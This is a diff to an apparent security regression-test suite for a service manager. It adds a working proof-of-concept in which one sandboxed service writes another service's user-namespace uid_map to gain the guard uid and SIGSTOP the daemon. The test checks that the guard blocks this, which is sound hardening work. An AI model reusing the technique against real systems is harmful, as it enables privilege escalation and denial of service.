@@ -517,7 +517,117 @@ def euid_checks(ctx):
     d.stop()
 
 
-ATTACKS = [userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
+# ---------------------------------------------------------------------------------------
+FOREIGN_BENEFICIARY_PY = r"""
+# A second gated root service WITHOUT capabilities (so no guard line is added to it) makes a
+# user namespace of its own, leaves its pid for the first, waits for a uid_map and becomes
+# uid 0 in there: its filter sees setresuid(0, 0, 0).
+import ctypes, os, signal, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+d = sys.argv[1]
+daemon = os.getppid()
+with open('/proc/%d/stat' % daemon) as f:
+    holder = int(f.read().rsplit(')', 1)[1].split()[1])
+with open(os.path.join(d, 'pid.tmp'), 'w') as f:
+    f.write(str(os.getpid()))
+os.rename(os.path.join(d, 'pid.tmp'), os.path.join(d, 'pid'))
+if libc.unshare(0x10000000) != 0:
+    print('unshare(CLONE_NEWUSER) failed', ctypes.get_errno(), flush=True)
+    sys.exit(1)
+print('beneficiary: in a user namespace, daemon', daemon, 'holder', holder, flush=True)
+end = time.monotonic() + 10
+while time.monotonic() < end:
+    with open('/proc/self/uid_map') as f:
+        if f.read().strip():
+            break
+    time.sleep(0.05)
+with open('/proc/self/uid_map') as f:
+    print('uid_map:', f.read().strip(), flush=True)
+if libc.setresuid(0, 0, 0) != 0:
+    print('setresuid(0,0,0) failed', ctypes.get_errno(), flush=True)
+    sys.exit(1)
+with open('/proc/self/status') as f:
+    print('beneficiary:', [l.strip() for l in f if l.startswith('Uid')][0], flush=True)
+for t in (daemon, holder):
+    try:
+        os.kill(t, signal.SIGSTOP)
+        print('SIGSTOP sent to %d' % t, flush=True)
+    except OSError as e:
+        print('kill(%d, SIGSTOP): %s' % (t, e), flush=True)
+print('done', flush=True)
+time.sleep(1000)
+"""
+
+FOREIGN_WRITER_PY = r"""
+# The gated root service keeping CAP_SETUID (its filter refuses set*uid(guard) and, since the
+# fix, every user namespace of its own) writes the uid_map of ANOTHER process's namespace:
+# the kernel asks for CAP_SETUID in the parent namespace (it has it) and CAP_SYS_ADMIN in the
+# target one (it has it as that namespace's owner, uid 0).
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+d = sys.argv[1]
+# The guard is in place: a namespace of its own is refused.
+print('writer: own unshare(CLONE_NEWUSER):', libc.unshare(0x10000000), os.strerror(ctypes.get_errno()), flush=True)
+end = time.monotonic() + 10
+while time.monotonic() < end and not os.path.exists(os.path.join(d, 'pid')):
+    time.sleep(0.05)
+pid = int(open(os.path.join(d, 'pid')).read())
+end = time.monotonic() + 10
+while time.monotonic() < end and os.readlink('/proc/%d/ns/user' % pid) == os.readlink('/proc/self/ns/user'):
+    time.sleep(0.05)
+try:
+    with open('/proc/%d/uid_map' % pid, 'w') as f:
+        f.write('0 4294967293 1\n')
+    print('writer: uid_map of %d written: 0 -> 4294967293' % pid, flush=True)
+except OSError as e:
+    print('writer: uid_map write failed', e, flush=True)
+"""
+
+
+def userns_foreign_map(ctx):
+    """The guard (RestrictNamespaces=~user for a gated service keeping CAP_SETUID) only stops
+    the service's OWN namespaces. Its CAP_SETUID still lets it write the uid_map of another
+    process's fresh namespace: here a second gated root service with no capabilities at all
+    (which gets no guard line, and whose filter sees setresuid(0, 0, 0)). The second service
+    then is uid 4294967293 and stops the holder and the daemon."""
+    path_b = script(ctx, 'beneficiary.py', FOREIGN_BENEFICIARY_PY)
+    shared = os.path.dirname(path_b)
+    path_w = script(ctx, 'writer.py', FOREIGN_WRITER_PY)
+    units = {'beneficiary.service': unit(GATED + 'CapabilityBoundingSet=\n'
+                                         'ExecStart=/usr/bin/python3 %s %s' % (path_b, shared)),
+             'setuid.service': unit(GATED + 'CapabilityBoundingSet=CAP_SETUID\n'
+                                    'ExecStart=/usr/bin/python3 %s %s' % (path_w, shared)),
+             'other.service': unit('ExecStart=/bin/sleep 1000')}
+    d = ctx.daemon(units, ['other.service'])
+    d.wait_state('other.service', 'active', 'running')
+    daemon = d.daemon_pid()
+    holder = d.proc.pid
+    st.ctl(ctx, d, 'start', 'beneficiary.service')
+    st.ctl(ctx, d, 'start', 'setuid.service')
+    end = time.monotonic() + 10
+    while time.monotonic() < end and not (proc_state(daemon) == 'T' and proc_state(holder) == 'T'):
+        if 'done' in d.unit_log('beneficiary.service') or 'failed' in d.unit_log('beneficiary.service'):
+            break
+        time.sleep(0.05)
+    sd, sh = proc_state(daemon), proc_state(holder)
+    for pid in (daemon, holder):
+        try:
+            os.kill(pid, signal.SIGCONT)
+        except OSError:
+            pass
+    verbose(d, 'beneficiary.service')
+    verbose(d, 'setuid.service')
+    log = d.unit_log('beneficiary.service') + d.unit_log('setuid.service')
+    if 'beneficiary:' not in log:
+        raise st.Failure('the service did not run')
+    verdict('guard: a gated CAP_SETUID service maps the guard uid into another service\'s namespace: SIGSTOP',
+            sd != 'T' and sh != 'T',
+            'daemon state %s, holder state %s; logs: %s' % (
+                sd, sh, ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if l.strip())))
+    d.stop()
+
+
+ATTACKS = [userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
 
 
 def main():
